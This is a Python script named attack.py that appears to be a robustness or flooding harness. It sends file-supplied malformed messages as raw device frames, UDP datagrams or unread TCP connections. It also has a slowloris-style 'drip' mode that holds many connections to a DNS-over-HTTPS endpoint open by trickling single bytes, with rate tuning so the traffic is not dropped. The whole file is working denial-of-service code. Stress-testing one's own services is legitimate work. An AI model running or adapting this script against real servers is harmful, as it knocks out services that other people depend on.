"""What no well-behaved program sends. FILE holds messages, each behind its length in four bytes.

  attack.py packets DEVICE FILE          as packets that leave through a device, whatever their bytes
  attack.py datagrams ADDRESS PORT FILE  as datagrams
  attack.py streams ADDRESS PORT FILE    each on a connection of its own, which is not read
  attack.py drip ADDRESS PORT COUNT S    so many connections for so many seconds, each sending a byte now and then
"""
import socket
import struct
import sys
import time


def messages(name):
    with open(name, "rb") as file:
        data = file.read()
    at = 0
    while at < len(data):
        (length,) = struct.unpack_from(">I", data, at)
        yield data[at + 4 : at + 4 + length]
        at += 4 + length


def each(send, name):
    """Some are not taken: too long for the device, or too many at once. They are tried once more, and counted."""
    sent = lost = 0
    for message in messages(name):
        if sent % 20 == 19:
            # Faster than that the kernel throws most of it away, and nobody is attacked.
            time.sleep(0.002)
        for attempt in (1, 2):
            try:
                send(message)
                sent += 1
                break
            except OSError:
                time.sleep(0.001)
        else:
            lost += 1
    print("sent %d, not taken %d" % (sent, lost))


def packets(device, name):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind((device, 0x0800))
        each(raw.send, name)


def family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def datagrams(address, port, name):
    with socket.socket(family(address), socket.SOCK_DGRAM) as one:
        one.connect((address, int(port)))
        each(one.send, name)


def streams(address, port, name):
    def send(message):
        with socket.create_connection((address, int(port)), timeout=5) as one:
            one.sendall(message)

    each(send, name)


def drip(address, port, count, seconds):
    begun = b"POST /dns-query HTTP/1.1\r\nhost: x\r\n"
    end = time.monotonic() + float(seconds)
    held = []
    opened = closed = 0
    while time.monotonic() < end:
        while len(held) < int(count):
            try:
                one = socket.create_connection((address, int(port)), timeout=2)
            except OSError:
                break
            opened += 1
            held.append([one, 0])
        for pair in list(held):
            one, at = pair
            one.setblocking(False)
            try:
                one.send(begun[at : at + 1] or b"x")
                pair[1] += 1
                if one.recv(4096, socket.MSG_DONTWAIT) is not None:
                    raise OSError("answered or closed")
            except BlockingIOError:
                continue
            except OSError:
                closed += 1
                one.close()
                held.remove(pair)
        time.sleep(0.2)
    print("opened %d, closed by the other side %d, held at the end %d" % (opened, closed, len(held)))


{"packets": packets, "datagrams": datagrams, "streams": streams, "drip": drip}[sys.argv[1]](*sys.argv[2:])
